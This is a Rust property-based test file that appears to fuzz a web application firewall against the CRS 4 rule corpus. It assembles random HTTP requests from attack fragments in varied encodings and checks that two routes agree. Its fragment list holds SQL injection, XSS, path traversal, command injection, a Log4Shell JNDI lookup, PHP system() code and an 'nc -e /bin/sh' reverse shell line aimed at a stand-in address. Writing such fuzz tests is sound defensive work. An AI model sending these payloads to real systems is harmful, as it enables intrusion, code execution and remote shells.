//! Requests that nobody sent: pieces of attacks, put together at random, in many encodings, under names that repeat.

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;

use super::{Both, Workers, routes, same};
use crate::drive::Engine;
use crate::ftw::server::Request;
use crate::{base, suites};
use durward_testkit::ftw::Backend;

const PIECES: &[&str] = &[
    "' OR 1=1 -- -",
    "1 UNION ALL SELECT password FROM users",
    "sleep(5)#",
    "<script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "http://192.0.2.9/a.txt?",
    "; cat /etc/passwd",
    "$(id)",
    "| nc -e /bin/sh 192.0.2.9",
    "<?php system('id'); ?>",
    "${jndi:ldap://192.0.2.9/a}",
    "java.lang.Runtime",
    "rO0ABQ",
    "\r\nSet-Cookie: a=b",
    "__proto__",
    "{{7*7}}",
    "_$$ND_FUNC$$_",
    "x=\\u0027 \\x3c &lt;b&gt; &#x27;",
    "/*!50000select*/",
    "\u{0}",
    "\u{e9}\u{4f60}",
    "plain words",
    "17",
    "",
    "a",
];

/// How a piece is written.
fn encoded(piece: &str, way: u8) -> Vec<u8> {
    let bytes = piece.as_bytes();
    let each = |form: fn(u8) -> String| bytes.iter().map(|byte| form(*byte)).collect::<String>().into_bytes();
    match way {
        0 => bytes.to_vec(),
        1 => each(|byte| format!("%{byte:02x}")),
        2 => each(|byte| format!("%25{byte:02X}")),
        3 => each(|byte| format!("%u00{byte:02x}")),
        4 => each(|byte| format!("&#{byte};")),
        5 => piece.to_uppercase().into_bytes(),
        6 => bytes.iter().flat_map(|byte| [*byte, b'\t']).collect(),
        _ => [bytes, b"\xff\x00%", bytes].concat(),
    }
}

fn value() -> impl Strategy<Value = Vec<u8>> {
    vec((select(PIECES), 0..8_u8), 0..3)
        .prop_map(|pieces| pieces.into_iter().flat_map(|(piece, way)| encoded(piece, way)).collect())
}

type Pairs = Vec<(&'static str, Vec<u8>)>;

fn pairs() -> impl Strategy<Value = Pairs> {
    let name = select(vec!["a", "A", "id", "v1", "a[]", "PHPSESSID", "", "__proto__", "file"]);
    vec((name, value()), 0..5)
}

/// Pairs as a query string or a form. What would end the line is taken out for the target.
fn joined(pairs: &Pairs, in_target: bool) -> Vec<u8> {
    let pairs: Vec<Vec<u8>> = pairs.iter().map(|(name, value)| [name.as_bytes(), b"=", value].concat()).collect();
    let mut text = pairs.join(&b'&');
    if in_target {
        text.retain(|byte| *byte > b' ' && *byte != b'#');
    }
    text
}

fn body(kind: u8, pairs: &Pairs) -> (&'static str, Vec<u8>) {
    let text = |value: &Vec<u8>| String::from_utf8_lossy(value).into_owned();
    match kind {
        0 => ("application/x-www-form-urlencoded", joined(pairs, false)),
        1 => {
            let members = pairs.iter().map(|(name, value)| format!("{name:?}:[{},1]", serde_json::json!(text(value))));
            ("application/json", format!("{{{}}}", members.collect::<Vec<_>>().join(",")).into_bytes())
        }
        2 => {
            let elements = pairs.iter().map(|(name, value)| format!("<e n=\"{name}\">{}</e>", text(value)));
            ("text/xml", format!("<r>{}</r>", elements.collect::<String>()).into_bytes())
        }
        3 => {
            let mut body = Vec::new();
            for (number, (name, value)) in pairs.iter().enumerate() {
                let file = if number % 2 == 0 { "" } else { "; filename=\"a.php\"" };
                let head = format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"{file}\r\n\r\n");
                body.extend_from_slice(&[head.as_bytes(), value, b"\r\n"].concat());
            }
            body.extend_from_slice(b"--b--\r\n");
            ("multipart/form-data; boundary=b", body)
        }
        _ => ("application/octet-stream", joined(pairs, false)),
    }
}

fn request() -> impl Strategy<Value = Request> {
    let path = select(vec!["/", "/a/b.php", "/%2e%2e/etc", "/reflect"]);
    let fields = vec((select(vec!["Cookie", "User-Agent", "Referer", "X-A", "Host", "Content-Type"]), value()), 0..4);
    (path, pairs(), fields, prop::option::of((0..5_u8, pairs()))).prop_map(|(path, query, fields, content)| {
        let mut request = Request {
            method: if content.is_some() { b"POST".to_vec() } else { b"GET".to_vec() },
            target: [path.as_bytes(), b"?", &joined(&query, true)].concat(),
            protocol: b"HTTP/1.1".to_vec(),
            ..Request::default()
        };
        request.fields.push((b"Host".to_vec(), b"localhost".to_vec()));
        request.fields.extend(fields.into_iter().map(|(name, value)| (name.as_bytes().to_vec(), value)));
        if let Some((kind, pairs)) = &content {
            let (media_type, body) = body(*kind, pairs);
            request.fields.push((b"Content-Type".to_vec(), media_type.as_bytes().to_vec()));
            request.body = body;
        }
        request
    })
}

#[test]
fn any_requests() {
    let Some(corpus) = suites::corpus("crs4") else { return };
    let engine = Engine::load(|loader| base::crs4(loader, &corpus, ""));
    let both: Vec<Both> = routes().iter().map(|spec| Both::of(&engine, spec)).collect();
    let workers = std::cell::RefCell::new(Workers::default());
    let cases = if std::env::var_os("DURWARD_EXHAUSTIVE").is_some() { 4000 } else { 60 };
    let at = std::cell::Cell::new(0);
    proptest!(ProptestConfig { cases, ..ProptestConfig::default() }, |(request in request())| {
        let route = at.replace(at.get() + 1) % both.len();
        if let Err(why) = same(&both[route], &request, Backend::Albedo, &mut workers.borrow_mut()) {
            let body = String::from_utf8_lossy(&request.body).into_owned();
            prop_assert!(false, "{} on route {route}, {body:?}: {why}", String::from_utf8_lossy(&request.target));
        }
    });
}
